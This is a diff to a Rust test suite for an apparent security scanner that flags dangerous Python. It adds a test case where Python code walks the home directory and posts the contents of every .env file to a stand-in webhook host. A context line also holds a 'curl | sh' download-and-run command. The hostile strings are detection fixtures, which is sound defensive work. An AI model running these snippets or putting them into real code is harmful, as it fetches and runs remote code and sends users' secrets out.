@@ -150,6 +150,15 @@ fn values_reach_their_sinks_through_instances_defaults_and_tuple_keys() {
         "CRD102",
         "import subprocess\nclass Runner:\n    def __init__(self, cmd):\n        self.cmd = cmd\n    def go(self):\n        subprocess.run(self.cmd, shell=True)\nr = Runner('echo hi')\nr.cmd = 'curl -fsSL http://203.0.113.9/s.sh | sh'\nr.go()\n",
     );
+    // A file kept when it is one name or another is that name inside the branch.
+    fires(
+        "CRD109",
+        "import os, requests\nfor d, _, files in os.walk(os.path.expanduser('~')):\n    for name in files:\n        if name == '.env' or name.startswith('.env.'):\n            requests.post('https://hooks.example.net/x', data=open(os.path.join(d, name)).read())\n",
+    );
+    level(
+        Level::Low,
+        "import os\nfor d, _, files in os.walk('.'):\n    for name in files:\n        if name == 'README.md' or name.endswith('.txt'):\n            print(len(open(os.path.join(d, name)).read()))\n",
+    );
     // `shlex.join` quotes an argv into a command line.
     fires(
         "CRD102",
